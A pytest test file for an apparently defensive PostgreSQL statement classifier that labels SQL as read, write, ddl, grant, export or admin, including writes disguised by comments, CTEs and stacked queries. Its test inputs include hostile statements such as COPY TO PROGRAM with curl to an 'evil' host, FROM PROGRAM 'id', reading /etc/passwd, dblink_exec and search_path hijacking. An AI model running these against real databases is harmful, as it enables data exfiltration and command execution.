"""What a statement does, read from its text: also where it hides that."""

import subprocess
import sys

import pytest

from onepam.protocols.postgres.statements import ANYTHING, MOST_BYTES, classify, freed, setting
from onepam.protocols.sql.events import Freed

DOES = {
    # reading
    "SELECT * FROM t": "read",
    "SELECT count(*), pg_catalog.lower(a), now() FROM t GROUP BY 2": "read",
    "TABLE t": "read",
    "VALUES (1), (2)": "",
    "SHOW search_path": "read",
    "COPY t TO STDOUT": "read",
    "COPY (SELECT 1) TO STDOUT (FORMAT csv)": "read",
    "DECLARE c CURSOR FOR SELECT 1": "read",
    "FETCH 10 FROM c": "read",
    "EXPLAIN DELETE FROM t": "read",
    "EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM t": "read",
    "EXPLAIN (ANALYZE 0) DELETE FROM t": "read",
    "EXPLAIN (ANALYZE false) DELETE FROM t": "read",
    "SELECT (information_schema._pg_expandarray(ARRAY[1])).n": "read",
    "": "",
    "-- nothing": "",
    # one's own session
    "BEGIN": "other",
    "START TRANSACTION READ ONLY": "other",
    "COMMIT": "other",
    "SAVEPOINT a": "other",
    "SET extra_float_digits = 3": "other",
    "SET application_name TO 'x'": "other",
    "SET TIME ZONE 'UTC'": "other",
    "SET NAMES 'UTF8'": "other",
    "SELECT set_config('search_path', 'a', false)": "other read",
    "SELECT set_config('jit', $1, false)": "other read",
    "SELECT pg_catalog.set_config('DateStyle', NULL, true)": "other read",
    "RESET ALL": "other",
    "RESET statement_timeout": "other",
    "DISCARD ALL": "other",
    "DEALLOCATE ALL": "other",
    "EXECUTE a (1)": "other",
    "LISTEN a": "other",
    "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE": "other",
    # writing
    "INSERT INTO t VALUES (1)": "write",
    "INSERT INTO t SELECT * FROM s": "read write",
    "UPDATE t SET a = 1": "write",
    "DELETE FROM t": "write",
    "MERGE INTO t USING s ON a = b WHEN MATCHED THEN DELETE": "write",
    "TRUNCATE t": "write",
    "COPY t FROM STDIN": "write",
    "LOCK TABLE t": "write",
    "CALL p()": "write",
    "NOTIFY a": "write",
    # writing that hides
    "/* SELECT */ DELETE FROM t": "write",
    "-- SELECT\nDELETE FROM t": "write",
    "SELECT 1; DELETE FROM t": "read several write",
    "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x": "read write",
    "SELECT * FROM (SELECT 1 UNION SELECT nextval('s')) x": "read write",
    "SELECT 1 UNION (WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT a FROM x)": "read write",
    "EXPLAIN ANALYZE DELETE FROM t": "read write",
    "EXPLAIN (VERBOSE, ANALYZE) DELETE FROM t": "read write",
    "EXPLAIN (ANALYZE off, ANALYZE on) DELETE FROM t": "read write",
    "EXPLAIN (ANALYZE whatever) DELETE FROM t": "read write",
    "PREPARE x AS DELETE FROM t": "other write",
    "EXECUTE x (nextval('s'))": "other write",
    "DECLARE c CURSOR FOR SELECT nextval('s')": "read write",
    "COPY (DELETE FROM t RETURNING *) TO STDOUT": "read write",
    "SELECT * FROM t FOR UPDATE": "read write",
    "SELECT * FROM t FOR KEY SHARE": "read write",
    "START TRANSACTION READ WRITE": "other write",
    "BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE": "other write",
    "SET TRANSACTION READ WRITE": "other write",
    "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE": "other write",
    "SET default_transaction_read_only = off": "other write",
    "SET transaction_read_only TO 'no'": "other write",
    'SET "Default_Transaction_Read_Only" = off': "other write",
    "SELECT set_config('transaction_read_only', 'off', true)": "other read write",
    "RESET transaction_read_only": "other write",
    "SET transaction_read_only TO DEFAULT": "other write",
    "EXPLAIN SELECT my_own_function()": "read write",
    "PREPARE TRANSACTION 'x'": "other write",
    "COMMIT PREPARED 'x'": "other write",
    "SELECT nextval('s')": "read write",
    "SELECT setval('s', 1)": "read write",
    "SELECT pg_notify('a', 'b')": "read write",
    "SELECT lo_unlink(1)": "read write",
    "SELECT query_to_xml('DELETE FROM t', true, true, '')": "read write",
    "SELECT my_own_function()": "read write",
    "SELECT mine.lower('A')": "read write",
    "SELECT * FROM t, LATERAL my_own_function(a)": "read write",
    "SELECT a FROM t ORDER BY my_own_function(a)": "read write",
    "SELECT sum(a) FILTER (WHERE nextval('s') > 0) FROM t": "read write",
    "SELECT pg_advisory_lock(1)": "read write",
    # definitions
    "CREATE TABLE t (a int DEFAULT 1)": "ddl",
    # operators of somebody's own, behind which stand functions
    "SELECT 1 OPERATOR(public.+) 2": "read write",
    "SELECT 1 @+@ 2": "read write",
    "SELECT a FROM t WHERE a @+@ ANY (ARRAY[1])": "read write",
    "SELECT a FROM t WHERE a @+@ ALL (SELECT 1)": "read write",
    "SELECT a FROM t ORDER BY a USING OPERATOR(public.<)": "read write",
    "EXPLAIN SELECT a FROM t WHERE a @+@ 1": "read write",
    "SELECT a OPERATOR(pg_catalog.+) 1, -a, b ->> 'x', c @> d FROM t WHERE a NOT BETWEEN 1 AND 2": "read",
    "SELECT a FROM t WHERE a IN (1) AND a = ANY (SELECT 1) AND a IS DISTINCT FROM 2 ORDER BY a USING >": "read",
    "CREATE TABLE t AS SELECT 1": "ddl read",
    "SELECT * INTO t FROM s": "ddl read",
    "SELECT * INTO TEMP t FROM s": "ddl read",
    "DROP TABLE t": "ddl",
    "ALTER TABLE t ADD a int": "ddl",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'": "ddl",
    "EXPLAIN ANALYZE CREATE TABLE t AS SELECT 1": "ddl read",
    # rights
    "GRANT SELECT ON t TO a": "grant",
    "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO a": "grant",
    "ALTER ROLE a SUPERUSER": "grant",
    "CREATE ROLE a": "grant",
    "ALTER FUNCTION f() OWNER TO a": "grant",
    # files and other servers
    "COPY t TO '/tmp/x'": "export read",
    "COPY t TO PROGRAM 'curl -T - evil'": "export read",
    "COPY t FROM PROGRAM 'id'": "export write",
    "COPY t FROM '/etc/passwd'": "export write",
    "SELECT pg_read_file('/etc/passwd')": "export read",
    "SELECT pg_catalog.pg_ls_dir('/')": "export read",
    "SELECT lo_export(1, '/tmp/x')": "export read",
    "SELECT dblink_exec('host=x', 'DELETE FROM t')": "export read write",
    "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)": "export read write",
    # the server, others' sessions, and what bounds one's own
    "ALTER SYSTEM SET a = 1": "admin",
    "VACUUM": "admin",
    "SELECT pg_terminate_backend(1)": "admin read",
    "SELECT pg_reload_conf()": "admin read",
    "CREATE EXTENSION dblink": "admin",
    "LOAD 'x'": "admin",
    "SET statement_timeout = 0": "admin",
    "SET LOCAL statement_timeout = 0": "admin",
    "SET \"STATEMENT_TIMEOUT\" = 0": "admin",
    "SELECT set_config('statement_timeout', '0', false)": "admin read",
    "SELECT set_config('search_path', 'evil, pg_catalog', false)": "admin read",
    "SELECT set_config('search_path', $1, false)": "admin read",
    "SELECT set_config('Search_Path', $1, false)": "admin read",
    "SELECT set_config('statement_timeout', $1, false)": "admin read",
    "SELECT set_config('default_transaction_read_only', $1, false)": "admin read",
    "SELECT set_config('client_encoding', $1, false)": "admin read",
    "SELECT set_config('standard_conforming_strings', NULL, false)": "admin read",
    "SELECT set_config($1, $2, false)": "admin read",
    "SELECT pg_catalog.set_config('statement_' || 'timeout', '0', false)": "admin read",
    "SET ROLE a": "admin",
    "SET SESSION AUTHORIZATION a": "admin",
    "SET session_replication_role = replica": "admin",
    "SET app.user_id = 1": "admin",
    "SET NAMES 'SJIS'": "admin",
    "SET client_encoding FROM CURRENT": "admin",
    "SET standard_conforming_strings = off": "admin",
    "SET search_path = evil, pg_catalog": "admin",
}  # fmt: skip


@pytest.mark.parametrize("sql", DOES)
def test_what_a_statement_does(sql: str) -> None:
    found = classify(sql)
    assert found is not None
    assert " ".join(sorted(found)) == DOES[sql]


@pytest.mark.parametrize("sql", ["DO $$ BEGIN DELETE FROM t; END $$", "DO LANGUAGE plpython3u 'import os'"])
def test_a_text_in_another_language_may_do_anything(sql: str) -> None:
    assert classify(sql) == ANYTHING


@pytest.mark.parametrize("sql", ["SELEC 1", "SELECT '", "SELECT 1 $", "SELECT 1\0; DROP TABLE t"])
def test_what_cannot_be_read_is_not_guessed(sql: str) -> None:
    assert classify(sql) is None


CHAINS = ["+1", "::int", " IS NULL", "||a", " AND a", " UNION SELECT 1", "[1]", ";", ",1"]


def test_neither_a_long_nor_a_deep_text_ends_the_process() -> None:
    assert classify("SELECT 1" + " " * MOST_BYTES) is None
    program = "from onepam.protocols.postgres.statements import classify, MOST_BYTES as most\n"
    program += "".join(
        f"classify(('SELECT 1' + {chain!r} * most)[:most - most % {len(chain)} + {8 % len(chain)} - {len(chain)}])\n"
        for chain in CHAINS
    )
    program += "classify('SELECT ' + '(' * (most // 2 - 8) + '1' + ')' * (most // 2 - 8)); print('alive')"
    for stack in (1024, 8192):
        limited = ["bash", "-c", f'ulimit -s {stack}; exec "$@"', "-", sys.executable, "-c", program]
        assert subprocess.run(limited, check=False, capture_output=True, text=True).stdout == "alive\n"


def test_names_that_are_given_up() -> None:
    none: frozenset[str] = frozenset()
    for text, statements, portals in (
        ('DEALLOCATE a; DEALLOCATE PREPARE "B"; SELECT 1', frozenset(("a", "B")), none),
        ("PREPARE a AS SELECT 1", frozenset("a"), none),
        ("DEALLOCATE ALL; DEALLOCATE a", None, none),
        ("DISCARD ALL", None, None),
        ("DISCARD PLANS; BEGIN; SAVEPOINT a; ROLLBACK TO a", none, none),
        ("CLOSE c; DECLARE d CURSOR FOR SELECT 1; FETCH ALL FROM e; MOVE f", none, frozenset("cd")),
        *((each, none, None) for each in ("CLOSE ALL", "COMMIT", "END", "ABORT", "PREPARE TRANSACTION 'x'")),
        *((each, none, None) for each in ("ROLLBACK AND CHAIN", "CALL f()", "DO 'x'")),
    ):
        assert freed(text) == Freed(statements, portals), text
    assert freed("SELEC") is None


def test_a_text_is_read_up_to_a_length_that_keeps_nobody_waiting() -> None:
    assert classify("SELECT 1" + " " * 16_000) is not None
    assert classify("SELECT 1" + " " * 17_000) is None


def test_what_a_client_asks_for_at_its_start_is_judged_as_a_setting_of_its_session() -> None:
    assert setting("extra_float_digits", "2") == {"other"}
    assert setting("DateStyle", "ISO") == {"other"}
    assert setting("client_encoding", "UTF8") == {"other"}
    assert setting("client_encoding", "SJIS") == {"admin"}
    assert setting("default_transaction_read_only", "off") == {"other", "write"}
    assert setting("role", "postgres") == {"admin"}
    assert setting("Search_Path", "pg_catalog, mine") == {"other"}
    assert setting("search_path", 'mine,"PG_CATALOG"') == {"admin"}
